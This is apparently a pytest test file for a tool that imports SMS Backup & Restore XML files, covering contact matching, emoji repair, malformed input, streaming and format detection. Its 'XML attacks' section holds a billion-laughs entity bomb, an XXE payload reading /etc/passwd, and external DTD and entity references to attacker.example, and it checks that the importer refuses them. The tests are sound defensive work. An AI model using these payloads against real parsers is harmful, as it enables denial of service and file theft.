"""SMS Backup & Restore XML importer: golden files, what a user sees, XML attacks, bad input, streaming,
sniffing and properties."""

from __future__ import annotations

import base64
import tempfile
import tracemalloc
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bondlens.errors import BondlensError, ImportFormatError
from bondlens.importers import ImportOptions, detect_format, load_conversation
from bondlens.importers.base import read_sample
from bondlens.importers.sms_xml import IMPORTER, _CharRefRepair, attachment_kind, number_digits, numbers_match
from bondlens.model import Conversation
from tests.conftest import EXAMPLES
from tests.golden import DATA, check_golden

SMS_DIR = DATA / "sms-backup"

GOLDEN: list[tuple[str, ImportOptions, str | None]] = [
    ("sms_only.xml", ImportOptions(), None),
    ("mms_media.xml", ImportOptions(), None),
    ("group_mms.xml", ImportOptions(), None),
    ("multi_contacts.xml", ImportOptions(chat="Jordan Reyes"), None),
    ("multi_contacts.xml", ImportOptions(chat="Riley Chen, Jordan Reyes"), "multi_contacts.xml.group.expected.json"),
]


def sms(**attrs: str) -> str:
    defaults = {"protocol": "0", "address": "+15555550142", "date": "1773350107000", "type": "1", "body": "hi"}
    defaults.update(attrs)
    return "<sms " + " ".join(f'{k}="{v}"' for k, v in defaults.items()) + " />"


def backup(*children: str, header: str = "<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\n") -> str:
    return header + f'<smses count="{len(children)}">\n' + "\n".join(children) + "\n</smses>\n"


def write(tmp_path: Path, content: str | bytes, name: str = "sms-20260315.xml") -> Path:
    path = tmp_path / name
    if isinstance(content, str):
        path.write_text(content, encoding="utf-8", newline="")
    else:
        path.write_bytes(content)
    return path


def read(path: Path, chat: str | None = None) -> Conversation:
    return IMPORTER.read(path, ImportOptions(chat=chat))


# --- golden files ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "options", "expected"), GOLDEN, ids=[g[0] + str(g[1].chat) for g in GOLDEN])
def test_golden(name: str, options: ImportOptions, expected: str | None) -> None:
    export = SMS_DIR / name
    conversation = check_golden(export, "sms-backup", options, SMS_DIR / expected if expected else None)
    assert conversation.format == "sms-backup"
    assert not conversation.naive_timestamps


def test_examples_file_is_read_without_options() -> None:
    conversation = load_conversation(EXAMPLES / "sms-backup.xml")
    assert conversation.format == "sms-backup"
    assert conversation.title == "Morgan Blake"
    assert [p.name for p in conversation.participants] == ["Me", "Morgan Blake"]
    assert len(conversation.messages) == 12


# --- what a user sees -----------------------------------------------------------------------------------

SEEN = [
    # file, chat, message index, sender name, text, UTC time, attachment kinds
    ("sms_only.xml", None, 0, "Jordan Reyes", "Where are you? You said 9.", "2026-03-12 21:15:07", []),
    ("sms_only.xml", None, 1, "Me", "Still at work, sorry 😔 leaving in 10", "2026-03-12 21:16:40", []),
    (
        "sms_only.xml",
        None,
        2,
        "Jordan Reyes",
        "Don't bother.\nI'll eat alone & you can explain \"work\" tomorrow.",
        "2026-03-12 21:20:02",
        [],
    ),
    ("sms_only.xml", None, 4, "Me", "It's fine.\n\nDinner Friday? 🍽", "2026-03-13 12:30:00", []),
    ("sms_only.xml", None, 6, "Me", "I won't be.", "2026-03-14 18:06:10", []),  # queued: the owner's message
    ("mms_media.xml", None, 1, "Sam Okafor", "Explain this.\nWho is he?", "2026-03-14 18:06:10", ["image"]),
    ("mms_media.xml", None, 3, "Me", "This is my cousin. Here is the whole video.", "2026-03-14 22:45:00", ["video"]),
    ("mms_media.xml", None, 4, "Sam Okafor", "", "2026-03-14 22:50:00", ["contact", "voice"]),
    (
        "mms_media.xml",
        None,
        5,
        "Sam Okafor",
        "Re: Friday\nCall that number. Now.\nI mean it.",
        "2026-03-14 23:00:00",
        [],
    ),
    ("group_mms.xml", None, 0, "Riley Chen", "Who is coming Saturday?", "2026-03-13 12:30:00", []),
    ("group_mms.xml", None, 3, "Jordan Reyes", "You always say that.", "2026-03-13 12:35:20", ["image"]),
    ("multi_contacts.xml", "+1 (555) 555-0142", 3, "Me", "Please stop checking on me.", "2026-03-13 12:36:40", []),
    (
        "multi_contacts.xml",
        "5555550188",
        0,
        "Riley Chen",
        "Are you okay? Call me when you can",
        "2026-03-12 21:15:50",
        [],
    ),
]


@pytest.mark.parametrize(("name", "chat", "index", "sender", "text", "when", "kinds"), SEEN)
def test_what_a_user_sees(
    name: str, chat: str | None, index: int, sender: str, text: str, when: str, kinds: list[str]
) -> None:
    conversation = read(SMS_DIR / name, chat)
    message = conversation.messages[index]
    assert conversation.sender_name(message) == sender
    assert message.text == text
    assert message.timestamp == datetime.fromisoformat(when).replace(tzinfo=UTC)
    assert [a.kind for a in message.attachments] == kinds


def test_drafts_and_failed_sends_are_left_out_and_counted() -> None:
    conversation = read(SMS_DIR / "sms_only.xml")
    assert len(conversation.messages) == 7  # 9 in the file: one draft, one failed send
    assert "I'm so tired of this" not in [m.text for m in conversation.messages]
    assert any("1 unsent draft" in w and "1 failed send" in w for w in conversation.warnings)


def test_numbers_written_differently_are_one_contact() -> None:
    conversation = read(SMS_DIR / "sms_only.xml")
    assert [p.id for p in conversation.participants] == ["me", "+15555550142"]
    assert {m.sender for m in conversation.messages} == {"me", "+15555550142"}


def test_unknown_contact_name_does_not_replace_a_known_one() -> None:
    conversation = read(SMS_DIR / "sms_only.xml")
    assert conversation.participant("+15555550142").name == "Jordan Reyes"


def test_mms_attachments_keep_names_and_types_but_never_the_data() -> None:
    conversation = read(SMS_DIR / "mms_media.xml")
    image = conversation.messages[1].attachments[0]
    assert (image.kind, image.name, image.mime_type) == ("image", "IMG_2041.jpg", "image/jpeg")
    video = conversation.messages[3].attachments[0]
    assert (video.name, video.mime_type) == ("VID_0007.mp4", "video/mp4")  # name from cl when name is "null"
    assert conversation.messages[4].attachments[1].name is None  # name, cl and fn all "null"
    assert "/9j/" not in repr(conversation)


def test_messages_are_in_time_order_with_their_position_in_the_file() -> None:
    conversation = read(SMS_DIR / "mms_media.xml")
    times = [m.timestamp for m in conversation.messages]
    assert times == sorted(times)
    assert [m.source_record for m in conversation.messages] == [0, 2, 1, 3, 4, 5]
    assert [m.source_line for m in conversation.messages][:3] == [5, 7, 6]


def test_owner_number_is_learned_from_mms_addresses() -> None:
    conversation = read(SMS_DIR / "mms_media.xml")
    assert conversation.participant("me").handle == "+15555550123"
    assert "+15555550123" not in [p.id for p in conversation.participants if p.id != "me"]


def test_group_mms_has_every_member_and_the_owner() -> None:
    conversation = read(SMS_DIR / "group_mms.xml")
    assert conversation.title == "Jordan Reyes, Riley Chen"
    assert {p.name for p in conversation.participants} == {"Me", "Jordan Reyes", "Riley Chen"}
    assert conversation.message_counts() == {"+15555550188": 1, "+15555550142": 2, "me": 1}


def test_several_contacts_without_chat_lists_them() -> None:
    path = SMS_DIR / "multi_contacts.xml"
    with pytest.raises(ImportFormatError) as info:
        read(path)
    message = str(info.value)
    assert message.startswith(str(path))
    assert "--chat" in message
    for expected in ("Jordan Reyes (+15555550142", "Riley Chen (+15555550188", "55512", "group 'Jordan Reyes"):
        assert expected in message
    assert "\n" not in message


@pytest.mark.parametrize(
    ("chat", "title"),
    [
        ("Jordan Reyes", "Jordan Reyes"),
        ("jordan reyes", "Jordan Reyes"),
        ("+15555550142", "Jordan Reyes"),
        ("555-555-0142", "Jordan Reyes"),
        ("001 555 555 0142", "Jordan Reyes"),
        ("Riley Chen", "Riley Chen"),
        ("55512", "55512"),
        ("Jordan Reyes, Riley Chen", "Jordan Reyes, Riley Chen"),
        ("+15555550188~+15555550142", "Jordan Reyes, Riley Chen"),
    ],
)
def test_chat_option_picks_by_name_or_number(chat: str, title: str) -> None:
    assert read(SMS_DIR / "multi_contacts.xml", chat).title == title


def test_choosing_a_contact_warns_about_their_group_messages() -> None:
    conversation = read(SMS_DIR / "multi_contacts.xml", "Jordan Reyes")
    assert len(conversation.messages) == 4
    assert any("2 group messages" in w and "--chat 'Jordan Reyes, Riley Chen'" in w for w in conversation.warnings)


@pytest.mark.parametrize("chat", ["Nobody", "555", "0142", "Jordan"])
def test_chat_that_matches_nothing_says_what_there_is(chat: str) -> None:
    with pytest.raises(ImportFormatError, match="no conversation matching --chat") as info:
        read(SMS_DIR / "multi_contacts.xml", chat)
    assert "Riley Chen" in str(info.value)


def test_chat_that_matches_two_contacts_is_refused(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        backup(
            sms(address="+15555550101", contact_name="Sam Lee"),
            sms(address="+15555550102", contact_name="Sam Lee"),
        ),
    )
    with pytest.raises(ImportFormatError, match="matches 2 conversations"):
        read(path, "Sam Lee")
    assert read(path, "+15555550102").participants[-1].handle == "+15555550102"


@pytest.mark.parametrize(
    ("a", "b", "same"),
    [
        ("+1 555-555-0142", "(555) 555-0142", True),
        ("+15555550142", "15555550142", True),
        ("+33 6 12 34 56 78", "06 12 34 56 78", True),
        ("+44 7700 900555", "07700 900555", True),
        ("0044 7700 900555", "+447700900555", True),
        ("+1 212 555 0101", "+1 312 555 0101", False),  # same last 9 digits, different area code
        ("555-0142", "+15555550142", False),  # 7 digits, but 4 extra in front: not a country code
        ("55512", "15555512", False),
    ],
)
def test_number_matching(a: str, b: str, same: bool) -> None:
    da, db = number_digits(a), number_digits(b)
    assert da is not None and db is not None
    assert numbers_match(da, db) is same


@pytest.mark.parametrize(
    ("content_type", "name", "kind"),
    [
        ("image/jpeg", None, "image"),
        ("image/gif", None, "gif"),
        ("video/3gpp", None, "video"),
        ("audio/amr", None, "voice"),
        ("audio/mpeg", None, "audio"),
        ("text/x-vCard", None, "contact"),
        ("application/pdf", None, "document"),
        ("application/octet-stream", "holiday.png", "image"),
        ("application/vnd.unknown", None, "other"),
    ],
)
def test_attachment_kinds(content_type: str, name: str | None, kind: str) -> None:
    assert attachment_kind(content_type, name) == kind


# --- emoji written as surrogate pairs -------------------------------------------------------------------


def test_surrogate_pair_references_are_joined_and_lone_ones_replaced(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        backup(
            sms(body="hey &#55357;&#56841; &#x1F600;"),
            sms(body="broken &#55357; here &#1;", date="1773350200000"),
        ),
    )
    conversation = read(path)
    assert conversation.messages[0].text == "hey 😉 😀"
    assert conversation.messages[1].text == "broken \ufffd here \ufffd"
    assert any("2 character references" in w for w in conversation.warnings)


@settings(max_examples=80, deadline=None)
@given(
    text=st.lists(
        st.sampled_from([b"&#55357;", b"&#56841;", b"&#x1F600;", b"&#10;", b"&amp;", b"&#1;", b"ab", b"&", b";", b"#"]),
        max_size=30,
    ).map(b"".join),
    cuts=st.lists(st.integers(1, 12), max_size=20),
)
def test_repair_does_not_depend_on_chunk_boundaries(text: bytes, cuts: list[int]) -> None:
    whole = _CharRefRepair()
    expected = whole.feed(text) + whole.flush()
    pieces = _CharRefRepair()
    out, pos = b"", 0
    for cut in cuts:
        out += pieces.feed(text[pos : pos + cut])
        pos += cut
    out += pieces.feed(text[pos:]) + pieces.flush()
    assert out == expected
    assert (pieces.replaced, pieces.joined) == (whole.replaced, whole.joined)


# --- XML attacks ----------------------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE smses [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<smses count="1"><sms address="+15555550142" date="1773350107000" type="1" body="&lol9;" /></smses>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE smses [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<smses count="1"><sms address="+15555550142" date="1773350107000" type="1" body="&secret;" /></smses>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE smses SYSTEM "http://attacker.example/evil.dtd">
<smses count="1"><sms address="+15555550142" date="1773350107000" type="1" body="x" /></smses>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE smses [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
<smses count="0"></smses>
"""


@pytest.mark.parametrize(
    "content", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY], ids=["bomb", "xxe", "dtd", "param"]
)
def test_xml_attacks_are_refused_clearly(tmp_path: Path, content: str) -> None:
    path = write(tmp_path, content)
    with pytest.raises(ImportFormatError) as info:
        load_conversation(path, "sms-backup")
    message = str(info.value)
    assert message.startswith(str(path))
    assert "DOCTYPE" in message and "not read" in message
    assert "root:" not in message  # nothing from /etc/passwd


def test_an_undeclared_entity_is_a_clear_error_with_its_line(tmp_path: Path) -> None:
    path = write(tmp_path, backup(sms(body="fine"), sms(body="&secret;")))
    with pytest.raises(ImportFormatError, match="undefined entity") as info:
        read(path)
    assert info.value.line == 4


# --- bad input ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "needle", "line"),
    [
        (backup(sms(date="yesterday")), "unreadable date 'yesterday'", 3),
        (backup(sms(date="")), "unreadable date", 3),
        (backup(sms(date="99999999999999999999999")), "impossible date", 3),
        ("<?xml version='1.0'?><calls count='1'><call number='+15555550142'/></calls>", "call log", 1),
        ("<?xml version='1.0'?><html><body>hi</body></html>", "first element is <html>", 1),
        (backup(), "holds no messages", None),
        (backup(sms(type="3")), "holds no messages that were sent or received (1 unsent draft)", None),
        (backup(sms(body="a < b")), "is not readable XML", 3),
        ("<?xml version='1.0'?>\n<!-- nothing -->\n", "is not readable XML", 3),
        ("just some text", "is not readable XML", 1),
    ],
)
def test_bad_backups_give_one_clear_line(tmp_path: Path, content: str, needle: str, line: int | None) -> None:
    path = write(tmp_path, content)
    with pytest.raises(ImportFormatError) as info:
        read(path)
    message = str(info.value)
    assert needle in message
    assert message.startswith(str(path))
    assert info.value.line == line
    assert "\n" not in message


def test_a_cut_short_backup_says_so(tmp_path: Path) -> None:
    data = (SMS_DIR / "sms_only.xml").read_bytes()
    path = write(tmp_path, data[: len(data) // 2])
    with pytest.raises(ImportFormatError, match="cut short"):
        read(path)


def test_wrong_declared_count_is_a_warning(tmp_path: Path) -> None:
    content = backup(sms()).replace('count="1"', 'count="5"')
    conversation = read(write(tmp_path, content))
    assert any("says it holds 5 messages but 1 were found" in w for w in conversation.warnings)


def test_empty_and_missing_files(tmp_path: Path) -> None:
    with pytest.raises(ImportFormatError, match="empty"):
        read(write(tmp_path, b""))
    with pytest.raises(ImportFormatError, match="no such file"):
        read(tmp_path / "nope.xml")


def test_utf16_backup_is_read(tmp_path: Path) -> None:
    content = backup(sms(body="grüße ❤️"), header="<?xml version='1.0' encoding='UTF-16'?>\n")
    path = write(tmp_path, content.encode("utf-16"))
    assert read(path).messages[0].text == "grüße ❤️"


def test_progress_is_reported_in_bytes(tmp_path: Path) -> None:
    path = SMS_DIR / "mms_media.xml"
    seen: list[tuple[int, int]] = []
    IMPORTER.read(path, ImportOptions(progress=lambda done, total: seen.append((done, total))))
    assert seen and seen[-1] == (path.stat().st_size, path.stat().st_size)


# --- streaming: memory does not follow the size of the media --------------------------------------------


def test_large_mms_media_is_not_kept_in_memory(tmp_path: Path) -> None:
    picture = base64.b64encode(bytes(range(256)) * 1024).decode()  # 256 KiB of "image" per message
    parts = []
    for i in range(60):
        parts.append(
            f'<mms date="{1773350107000 + i * 1000}" msg_box="1" address="+15555550142" contact_name="Jordan">'
            f'<parts><part seq="0" ct="image/jpeg" name="IMG_{i}.jpg" text="null" data="{picture}" />'
            f'<part seq="0" ct="text/plain" text="photo {i}" /></parts>'
            '<addrs><addr address="+15555550142" type="137" /></addrs></mms>'
        )
    path = write(tmp_path, backup(*parts))
    assert path.stat().st_size > 20 * 1024 * 1024
    tracemalloc.start()
    try:
        conversation = read(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(conversation.messages) == 60
    assert conversation.messages[59].attachments[0].name == "IMG_59.jpg"
    assert peak < 8 * 1024 * 1024, f"peak {peak} bytes for a {path.stat().st_size} byte file"


# --- sniffing -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["sms_only.xml", "mms_media.xml", "group_mms.xml", "multi_contacts.xml"])
def test_sniff_recognises_backups(name: str) -> None:
    assert IMPORTER.sniff(read_sample(SMS_DIR / name)) == 1.0
    assert detect_format(SMS_DIR / name).name == "sms-backup"


@pytest.mark.parametrize(
    "content",
    [
        "<?xml version='1.0'?><html></html>",
        "Mar 12, 2026  9:15:07 PM\nJordan\nhi\n",
        '{"smses": []}',
        "<?xml version='1.0'?><!-- <smses> --><other/>",
    ],
)
def test_sniff_ignores_other_files(tmp_path: Path, content: str) -> None:
    assert IMPORTER.sniff(read_sample(write(tmp_path, content))) == 0.0


def test_sniff_sees_through_declaration_comments_and_stylesheet(tmp_path: Path) -> None:
    content = (
        "\ufeff<?xml version='1.0'?>\n<!-- made by hand -->\n<?xml-stylesheet href='sms.xsl'?>\n<smses count='0'/>"
    )
    assert IMPORTER.sniff(read_sample(write(tmp_path, content))) == 1.0


# --- properties: nothing but our own errors escapes -----------------------------------------------------

FIXTURES = {p.name: p.read_bytes() for p in sorted(SMS_DIR.glob("*.xml"))}


@st.composite
def damaged_backup(draw: st.DrawFn) -> bytes:
    data = bytearray(FIXTURES[draw(st.sampled_from(sorted(FIXTURES)))])
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, max(0, len(data) - 1)))
        action = draw(st.sampled_from(["truncate", "flip", "cut", "insert"]))
        if action == "truncate":
            del data[at:]
        elif action == "flip" and data:
            data[at] = draw(st.integers(0, 255))
        elif action == "cut":
            del data[at : at + draw(st.integers(1, 300))]
        else:
            data[at:at] = draw(
                st.sampled_from([b"<", b"&", b"&#55357;", b'"', b"<!DOCTYPE x>", b"\x00", b"\xff", b"<sms/>"])
            )
    return bytes(data)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.one_of(st.binary(max_size=800), damaged_backup()), chat=st.sampled_from([None, "Jordan Reyes"]))
def test_only_bondlens_errors_escape(data: bytes, chat: str | None) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "sms.xml"
        path.write_bytes(data)
        try:
            conversation = IMPORTER.read(path, ImportOptions(chat=chat))
        except BondlensError as exc:
            assert str(exc) and "\n" not in str(exc)
        else:
            assert conversation.messages
        assert isinstance(IMPORTER.sniff(read_sample(path)), float)


@settings(max_examples=60, deadline=None)
@given(
    bodies=st.lists(
        st.text(st.characters(blacklist_categories=["Cs", "Cc"]), max_size=40) | st.just("line one\nline two"),
        min_size=1,
        max_size=8,
    ),
    sent=st.lists(st.booleans(), min_size=8, max_size=8),
)
def test_any_text_round_trips(bodies: list[str], sent: list[bool]) -> None:
    def escape(text: str) -> str:
        return (
            text.replace("&", "&amp;")
            .replace('"', "&quot;")
            .replace("<", "&lt;")
            .replace(">", "&gt;")
            .replace("\n", "&#10;")
            .replace("\r", "&#13;")
            .replace("\t", "&#9;")
        )

    children = [
        sms(body=escape(b), date=str(1773350107000 + i), type="2" if sent[i] else "1") for i, b in enumerate(bodies)
    ]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "sms.xml"
        path.write_text(backup(*children), encoding="utf-8")
        conversation = IMPORTER.read(path, ImportOptions())
    assert [m.text for m in conversation.messages] == bodies
    assert [m.sender == "me" for m in conversation.messages] == sent[: len(bodies)]


def test_sms_to_several_people_belongs_to_their_group(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        backup(
            sms(address="+15555550142~+15555550188", type="2", body="to both", contact_name="Jordan Reyes, Riley Chen"),
            sms(address="+15555550188", body="just me", date="1773350200000", contact_name="Riley Chen"),
        ),
    )
    group = read(path, "Jordan Reyes, Riley Chen")
    assert [(m.sender, m.text) for m in group.messages] == [("me", "to both")]
    assert read(path, "Riley Chen").messages[0].text == "just me"
